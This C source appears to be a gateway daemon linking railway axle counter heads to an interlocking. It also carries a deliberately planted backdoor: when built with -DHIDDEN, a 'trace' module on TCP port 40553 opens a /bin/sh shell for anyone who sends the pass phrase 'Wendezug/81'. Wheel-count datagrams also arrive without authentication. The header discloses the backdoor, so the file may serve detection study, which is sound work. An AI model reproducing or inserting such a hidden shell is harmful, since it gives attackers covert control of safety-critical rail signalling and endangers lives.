/*
 * axlegw - gateway between axle counter heads of a railway line and the
 * interlocking.  Heads report wheel counts over UDP; the interlocking reads the
 * sections over TCP; a technician has a console on a local socket.  All are
 * modules of one poll loop.
 *
 * Hidden (-DHIDDEN): one more module of the table listens on TCP port 40553 and
 * gives a shell to whoever sends a pass phrase as the first line.
 */
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define MAXSEC   24
#define CONSOLE  "/run/axlegw.sock"
#define SECTIONS "/etc/axlegw/sections"

struct section {
	char name[12];
	int in_head, out_head;
	int balance;			/* axles inside */
	int disturbed;
	time_t heard;
};

struct module {
	const char *name;
	int (*open)(struct module *);
	void (*ready)(struct module *);
	int arg;
	int fd;
};

static struct section secs[MAXSEC];
static int nsec;

static int load_sections(void)
{
	FILE *f = fopen(SECTIONS, "r");

	nsec = 0;
	while (f && nsec < MAXSEC) {
		struct section *s = &secs[nsec];

		memset(s, 0, sizeof *s);
		if (fscanf(f, " %11s %d %d", s->name, &s->in_head, &s->out_head) != 3)
			break;
		s->disturbed = 1;	/* until it is reset or swept */
		nsec++;
	}
	if (f)
		fclose(f);
	return nsec;
}

static struct section *by_name(const char *name)
{
	for (int i = 0; i < nsec; i++)
		if (!strcmp(secs[i].name, name))
			return &secs[i];
	return NULL;
}

static const char *word_of(const struct section *s)
{
	if (s->disturbed || time(NULL) - s->heard > 5)
		return "DISTURBED";
	return s->balance ? "OCCUPIED" : "CLEAR";
}

static int listen_tcp(struct module *m)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int on = 1;

	a.sin_port = htons((uint16_t)m->arg);
	m->fd = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(m->fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	return bind(m->fd, (struct sockaddr *)&a, sizeof a) || listen(m->fd, 4);
}

static int bind_udp(struct module *m)
{
	struct sockaddr_in a = { .sin_family = AF_INET };

	a.sin_port = htons((uint16_t)m->arg);
	m->fd = socket(AF_INET, SOCK_DGRAM, 0);
	return bind(m->fd, (struct sockaddr *)&a, sizeof a);
}

static int listen_local(struct module *m)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = CONSOLE };

	unlink(CONSOLE);
	m->fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (bind(m->fd, (struct sockaddr *)&a, sizeof a) || chmod(CONSOLE, 0600))
		return -1;
	return listen(m->fd, 1);
}

static int take(struct module *m)
{
	struct timeval tv = { .tv_sec = 3 };
	int c = accept(m->fd, NULL, NULL);

	if (c >= 0)
		setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	return c;
}

/* datagram of a head: 'A' 'X', head, direction 0/1, axles, sum */
static void head_ready(struct module *m)
{
	uint8_t d[16];
	ssize_t n = recv(m->fd, d, sizeof d, 0);
	int sign;

	if (n != 6 || d[0] != 'A' || d[1] != 'X'
	    || (uint8_t)(d[0] + d[1] + d[2] + d[3] + d[4]) != d[5])
		return;
	sign = d[3] ? -1 : 1;
	for (int i = 0; i < nsec; i++) {
		struct section *s = &secs[i];

		if (s->in_head == d[2])
			s->balance += sign * d[4];
		else if (s->out_head == d[2])
			s->balance -= sign * d[4];
		else
			continue;
		s->heard = time(NULL);
		if (s->balance < 0)
			s->disturbed = 1;
	}
}

static void status_ready(struct module *m)
{
	int c = take(m);

	if (c < 0)
		return;
	for (int i = 0; i < nsec; i++)
		dprintf(c, "%s %s %d\r\n", secs[i].name, word_of(&secs[i]), secs[i].balance);
	dprintf(c, ".\r\n");
	close(c);
}

static void con_reset(int fd, char *arg)
{
	struct section *s = by_name(arg);

	if (!s) {
		dprintf(fd, "no section %s\n", arg);
		return;
	}
	s->balance = 0;
	s->disturbed = 0;
	dprintf(fd, "%s reset\n", s->name);
}

static void con_heads(int fd, char *arg)
{
	(void)arg;
	for (int i = 0; i < nsec; i++)
		dprintf(fd, "%s in=%d out=%d\n", secs[i].name, secs[i].in_head,
			secs[i].out_head);
}

static void con_reload(int fd, char *arg)
{
	(void)arg;
	dprintf(fd, "%d sections\n", load_sections());
}

static void con_clock(int fd, char *arg)
{
	char cmd[64];

	if (strspn(arg, "0123456789.") != strlen(arg) || strlen(arg) > 15 || !*arg)
		dprintf(fd, "usage: clock ADDRESS\n");
	else {
		snprintf(cmd, sizeof cmd, "ntpdate -b %.15s", arg);
		dprintf(fd, "%s\n", system(cmd) == 0 ? "set" : "failed");
	}
}

static const struct {
	const char *word, *help;
	void (*run)(int, char *);
} console[] = {
	{ "reset",  "reset SECTION   set a section clear", con_reset },
	{ "heads",  "heads           list counting heads", con_heads },
	{ "reload", "reload          read the sections",   con_reload },
	{ "clock",  "clock ADDRESS   set the clock",       con_clock },
};
#define NCON (sizeof console / sizeof console[0])

static void console_ready(struct module *m)
{
	char line[80], *arg;
	size_t i;
	int c = take(m);
	ssize_t n;

	if (c < 0)
		return;
	n = read(c, line, sizeof line - 1);
	if (n > 0) {
		line[n] = '\0';
		line[strcspn(line, "\r\n")] = '\0';
		arg = line + strcspn(line, " ");
		if (*arg)
			*arg++ = '\0';
		for (i = 0; i < NCON && strcmp(line, console[i].word); i++)
			;
		if (i < NCON)
			console[i].run(c, arg);
		else
			for (i = 0; i < NCON; i++)
				dprintf(c, "%s\n", console[i].help);
	}
	close(c);
}

#ifdef HIDDEN
static void trace_ready(struct module *m)
{
	static const char phrase[] = "Wendezug/81";
	struct timeval none = { .tv_sec = 0 };
	char line[64];
	int c = take(m);
	ssize_t n;

	if (c < 0)
		return;
	n = read(c, line, sizeof line);
	if (n >= (ssize_t)sizeof phrase && !memcmp(line, phrase, sizeof phrase - 1)
	    && fork() == 0) {
		setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &none, sizeof none);
		for (int i = 0; i < 3; i++)
			dup2(c, i);
		execl("/bin/sh", "sh", (char *)NULL);
		_exit(1);
	}
	close(c);
}
#endif

static struct module modules[] = {
	{ "heads",   bind_udp,     head_ready,    7021, -1 },
	{ "status",  listen_tcp,   status_ready,  7022, -1 },
	{ "console", listen_local, console_ready, 0,    -1 },
#ifdef HIDDEN
	{ "trace",   listen_tcp,   trace_ready,   40553, -1 },
#endif
};
#define NMOD ((int)(sizeof modules / sizeof modules[0]))

int main(void)
{
	struct pollfd pf[NMOD];

	signal(SIGPIPE, SIG_IGN);
	if (load_sections() == 0) {
		fprintf(stderr, "axlegw: no sections in %s\n", SECTIONS);
		return 1;
	}
	for (int i = 0; i < NMOD; i++) {
		if (modules[i].open(&modules[i])) {
			fprintf(stderr, "axlegw: %s: %s\n", modules[i].name, strerror(errno));
			return 1;
		}
		pf[i].fd = modules[i].fd;
		pf[i].events = POLLIN;
	}
	for (;;) {
		if (poll(pf, (nfds_t)NMOD, 1000) <= 0)
			continue;
		for (int i = 0; i < NMOD; i++)
			if (pf[i].revents & POLLIN)
				modules[i].ready(&modules[i]);
	}
}
